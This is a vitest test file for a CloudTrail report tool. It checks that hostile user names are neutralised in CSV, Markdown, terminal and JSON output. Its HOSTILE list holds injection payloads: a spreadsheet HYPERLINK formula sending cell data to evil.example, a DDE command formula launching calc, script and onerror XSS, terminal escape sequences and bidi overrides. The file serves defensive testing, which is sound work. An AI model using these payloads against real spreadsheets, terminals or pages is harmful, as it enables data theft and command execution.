import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { code, prose, renderMarkdown } from '../../src/report/markdown.js';
import { CSV_HEADER, neutralise, renderCsv } from '../../src/report/csv.js';
import { renderJson } from '../../src/report/json.js';
import { renderTable } from '../../src/report/table.js';
import { SummaryBuilder } from '../../src/summary.js';
import { safeText } from '../../src/text.js';
import { Gen, signinFailure } from '../support/cloudtrail.js';
import { run } from '../support/match.js';

const g = new Gen(9);
const T = Date.UTC(2024, 9, 10, 13);

// User names come from external identity providers: each of these arrives in a sign-in record as typed.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"click me")',
  'pipe|name\nwith a newline | and ] [a](http://evil.example)',
  'ansi\u001b[2J\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007\u001b[31mred',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '@SUM(1+1)',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '\tTAB=1',
  'reset\u001bc and 8-bit CSI \u009b2J and a title \u001b]0;pwned\u001b\\ and DCS \u001bP1$r\u001b\\',
  'bidi \u202eevil.exe\u202c and \u2066isolate\u2069',
];

function findingsFor(names: string[]) {
  // Every string of the record that a finding shows carries the hostile text: a log file can be forged whole.
  const records = names.map((name, i) => ({
    ...signinFailure(g, T + i * 1000, 'us-east-1', name, `wf-${i}`),
    sourceIPAddress: name, awsRegion: name, eventID: `${i}-${name}`,
  }));
  const summary = new SummaryBuilder();
  for (const r of records) summary.record(r);
  return { findings: run('signin-failure', records).findings, summary: summary.build() };
}

describe('hostile log text in every format', () => {
  const { findings, summary } = findingsFor(HOSTILE);

  it('has one finding per hostile name, in input order, the text in every field', () => {
    expect(findings.map((f) => f.principal)).toEqual(HOSTILE);
    expect(findings.map((f) => [f.sourceIp, f.region, f.eventIds[0]])).toEqual(HOSTILE.map((h, i) => [h, h, `${i}-${h}`]));
  });

  it('CSV: formula cells are neutralised, and parse back to the same text otherwise', () => {
    const rows: string[][] = parse(renderCsv(findings));
    const principals = rows.slice(1).map((r) => r[CSV_HEADER.indexOf('principal')]);
    // control characters are shown as escapes (\x0a, \x1b), so the tab that starts the last name is now text
    expect(principals).toEqual(HOSTILE.map(safeText).map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    expect(renderCsv(findings)).not.toMatch(/\u001b/);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(neutralise('\rX')).toBe("'\rX");
    expect(neutralise('plain=ok')).toBe('plain=ok');
  });

  it('Markdown: no raw HTML, no extra table cells, no links from log text', () => {
    const md = renderMarkdown(summary, findings);
    // Code spans show their text literally; outside them no tag or link may survive.
    const outsideCode = md.replace(/(`+)[^`]*?\1/g, '');
    expect(outsideCode).not.toMatch(/<script|<img/i);
    expect(outsideCode).not.toContain('](http://evil');
    expect(outsideCode).not.toContain('http://evil'); // outside code spans, every URL is broken up
    expect(md).not.toContain('\u001b');
    // each evidence row still has exactly 7 cells: unescaped pipes = 8
    const rows = md.split('\n').filter((l) => l.startsWith('| 2024-10-10'));
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) expect(row.replace(/\\\|/g, '').split('|').length - 1).toBe(8);
  });

  it('Markdown helpers: code spans hold backticks and pipes, prose escapes structure', () => {
    expect(code('a`b|c\nd')).toBe('``a`b\\|c d``');
    expect(code('`x`')).toBe('`` `x` ``');
    expect(prose('# head [x](y) <b> www.evil.example a@b.example http://x')).toBe(
      '\\# head \\[x\\]\\(y\\) &lt;b&gt; www\u200b\\.evil\\.example a@\u200bb\\.example http:\u200b//x',
    );
  });

  it('table: no control character reaches the terminal', () => {
    const out = renderTable(summary, findings, { color: false, width: 80 });
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(out).toContain('ansi\\x1b[2J\\x1b]8;;http://');
    expect(out).toContain('reset\\x1bc');
    expect(out).toContain('\\x9b2J');
    expect(out).toContain('\\u202eevil');
    expect(out).not.toMatch(/[\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
  });

  it('JSON: valid, and the exact text round-trips', () => {
    const parsed = JSON.parse(renderJson(summary, findings));
    expect(parsed.findings.map((f: { principal: string }) => f.principal)).toEqual(HOSTILE);
  });

  it('very long fields stay bounded in the table width, and render fast', () => {
    const { findings: long, summary: s } = findingsFor(['x'.repeat(5000)]);
    const lines = renderTable(s, long, { color: false, width: 80 }).split('\n');
    expect(lines.filter((l) => [...l].length > 80 && !l.startsWith('Guide: '))).toEqual([]);
  });
});
